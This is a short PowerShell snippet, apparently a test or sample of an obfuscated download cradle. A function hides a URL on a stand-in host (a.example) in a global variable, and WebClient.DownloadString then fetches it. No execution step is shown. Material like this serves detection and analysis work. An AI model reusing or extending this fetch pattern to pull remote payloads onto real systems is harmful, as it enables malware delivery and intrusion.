function f{$global:u='http://a.example/p/x.txt'}; f
$wc = New-Object System.Net.WebClient
$wc.DownloadString($global:u)
